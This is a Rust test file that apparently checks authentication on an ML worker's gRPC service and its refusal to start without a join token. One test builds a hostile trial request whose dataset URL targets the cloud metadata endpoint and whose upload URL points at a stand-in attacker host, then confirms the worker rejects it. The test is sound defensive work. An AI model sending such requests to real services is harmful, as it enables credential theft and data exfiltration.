//! The worker's door: its gRPC service answers only the control plane it registered with (the
//! credential handed out at registration), and a worker without the join token does not start.

use crate::common::TestApp;
use std::process::Command;
use tanren_proto::v1::worker_client::WorkerClient;
use tanren_proto::v1::{InfoRequest, TrialRequest};
use tonic::Code;

fn with_bearer<T>(msg: T, token: Option<&str>) -> tonic::Request<T> {
    let mut r = tonic::Request::new(msg);
    if let Some(t) = token {
        r.metadata_mut()
            .insert("authorization", format!("Bearer {t}").parse().unwrap());
    }
    r
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_worker_answers_no_rpc_without_its_control_planes_credential() {
    let app = TestApp::spawn().await;
    app.spawn_worker("w-door").await;
    let workers = app.get("/api/v1/workers").await;
    let url = workers["workers"][0]["grpc_url"].as_str().unwrap().to_string();
    let mut client = WorkerClient::connect(url).await.unwrap();
    for token in [
        None,
        Some("forged"),
        Some(crate::common::JOIN_TOKEN),
        Some(crate::common::ADMIN_TOKEN),
    ] {
        let info = client.info(with_bearer(InfoRequest {}, token)).await;
        assert_eq!(
            info.unwrap_err().code(),
            Code::Unauthenticated,
            "Info with {token:?}"
        );
        // A trial that would make the worker fetch from (and upload to) anywhere: refused up front.
        let trial = TrialRequest {
            trial_id: 1,
            study_id: 1,
            dataset_sha256: "0".repeat(64),
            dataset_url: "http://169.254.169.254/latest/meta-data".into(),
            artifact_url: "http://attacker.example/upload".into(),
            config_json: "{}".into(),
            split_seed: 1,
            trial_token: String::new(),
        };
        let run = client.run_trial(with_bearer(trial, token)).await;
        assert_eq!(
            run.unwrap_err().code(),
            Code::Unauthenticated,
            "RunTrial with {token:?}"
        );
    }
}

#[test]
fn a_worker_without_the_join_token_refuses_to_start_and_says_why() {
    let dir = tempfile::tempdir().unwrap();
    let out = Command::new(env!("CARGO_BIN_EXE_tanren-e2e-worker"))
        .env_remove("TANREN_JOIN_TOKEN")
        .env("TANREN_WORKER_LISTEN", "127.0.0.1:0")
        .env("TANREN_WORKER_DATA", dir.path())
        .env("TANREN_DEVICE", "cpu")
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("TANREN_JOIN_TOKEN") && err.contains("join-token"),
        "{err}"
    );
}
